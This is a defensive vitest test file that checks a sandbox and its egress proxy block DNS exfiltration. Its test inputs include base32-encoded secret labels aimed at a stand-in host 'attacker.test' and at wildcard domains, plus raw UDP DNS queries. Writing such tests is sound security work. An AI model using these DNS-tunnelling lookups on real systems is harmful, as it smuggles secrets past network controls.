/**
 * DNS exfiltration from a real jail. Data leaves in the names looked up: `<base32 of a secret>.example.com`
 * reaches example.com's name servers whether or not anything answers. The jail itself sends no DNS
 * (no resolver configured, no route to any, UDP 53 to the host's own resolver unreachable); the one
 * lookup left is the egress proxy's, for a name the jail asks it for. The proxy looks up only names
 * the allow-list takes, and under a wildcard only names shaped like host names, and few of them.
 */
import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { startJail } from '../../src/sandbox/index.js';
import { jailSpec, runInJail, skipWithoutSandbox, tempDir, viaProxy } from './jail-harness.js';

const skip = skipWithoutSandbox();
const asRoot = process.getuid?.() === 0;

/** The host's own resolvers (what the proxy's lookups go through). */
const hostResolvers = readFileSync('/etc/resolv.conf', 'utf8')
  .split('\n')
  .map((l) => /^nameserver\s+(\S+)/.exec(l)?.[1])
  .filter((a): a is string => a !== undefined && !a.includes(':'));

/** Runs `script` in a jail allowed `egress`; returns its output and every name the proxy looked up. */
async function lookedUp(script: string, egress: string[]): Promise<{ out: string; names: string[] }> {
  const names: string[] = [];
  const workdir = tempDir('bulkhead-wd-');
  const { writeFileSync } = await import('node:fs');
  writeFileSync(`${workdir}/script.sh`, script);
  const spec = {
    ...jailSpec(workdir, ['/bin/sh', '-c', 'sh ./script.sh > ./out.txt 2>&1'], {
      egress,
      ...(asRoot ? {} : { weakerLimits: true }),
    }),
    resolve: async (host: string) => {
      names.push(host);
      return ['93.184.216.34'];
    },
  };
  const handle = await startJail(spec);
  await handle.exited;
  return { out: readFileSync(`${workdir}/out.txt`, 'utf8'), names };
}

/** A secret as DNS labels would carry it: base32, lower case, 52 characters per label. */
const SECRET_LABEL = 'mfrggzdfmztwq2lknnwg23tpobyxe43uov3ho6dzpjqwey3emvtgo';

describe.skipIf(skip)('DNS from the jail', () => {
  it('has no resolver configured', async () => {
    const { out } = await runInJail('cat /etc/resolv.conf 2>&1 || echo NO-RESOLV-CONF', {
      weakerLimits: !asRoot,
    });
    expect(out).not.toMatch(/^nameserver/m);
  });

  it("cannot reach the host's resolvers or a public one over UDP 53", async () => {
    const targets = [...hostResolvers, '8.8.8.8', '127.0.0.53'];
    const js = `const d = require('dgram');
for (const t of ${JSON.stringify(targets)}) {
  const s = d.createSocket('udp4');
  s.on('message', () => console.log('GOT-ANSWER', t));
  s.send(Buffer.from('0001010000010000000000000378787803636f6d0000010001', 'hex'), 53, t, (e) => console.log('UDP', t, e ? e.code : 'sent'));
}
setTimeout(() => process.exit(0), 1500);`;
    const { out } = await runInJail(`cat > /tmp/udp.js <<'EOF'\n${js}\nEOF\nnode /tmp/udp.js`, {
      weakerLimits: !asRoot,
    });
    expect(out).not.toContain('GOT-ANSWER');
    for (const t of targets.filter((a) => !a.startsWith('127.')))
      expect(out).toContain(`UDP ${t} ENETUNREACH`);
  });

  it('cannot ask a DNS-over-HTTPS server at an address through the proxy', async () => {
    const { out, names } = await lookedUp(viaProxy('connect', '1.1.1.1:443'), ['*.example.com:443']);
    expect(out).toContain('STATUS 403');
    expect(names).toEqual([]);
  });
});

describe.skipIf(skip)("DNS through the proxy's lookups", () => {
  it('looks up no name the allow-list refuses', async () => {
    const { out, names } = await lookedUp(viaProxy('connect', `${SECRET_LABEL}.attacker.test:443`), [
      'api.example.com:443',
    ]);
    expect(out).toContain('STATUS 403');
    expect(names).toEqual([]);
  });

  it('looks up no long random-looking label under a wildcard', async () => {
    const { out, names } = await lookedUp(viaProxy('connect', `${SECRET_LABEL}.example.com:443`), [
      '*.example.com:443',
    ]);
    expect(out).toContain('STATUS 403');
    expect(names).toEqual([]);
  });

  it('looks up no short random-looking labels stacked under a wildcard', async () => {
    const name = 'mfrggzdf.mztwq2lk.nnwg23tp.obyxe43u.ov3ho6dz.example.com';
    const { out, names } = await lookedUp(viaProxy('connect', `${name}:443`), ['*.example.com:443']);
    expect(out).toContain('STATUS 403');
    expect(names).toEqual([]);
  });

  it('looks up at most 16 distinct names under one wildcard in a run', async () => {
    const words = ['api', 'raw', 'cdn', 'www', 'docs', 'blog', 'mail', 'shop', 'news', 'help'];
    const hosts = words.flatMap((a) => words.slice(0, 4).map((b) => `${a}${b}.example.com:443`));
    const script = hosts.map((h) => viaProxy('connect', h)).join('');
    const { names } = await lookedUp(script, ['*.example.com:443']);
    expect(new Set(names).size).toBeLessThanOrEqual(16);
  });

  it('still looks up an ordinary name under a wildcard', async () => {
    const { names } = await lookedUp(viaProxy('connect', 'raw.example.com:443'), ['*.example.com:443']);
    expect(names).toEqual(['raw.example.com']);
  });
});
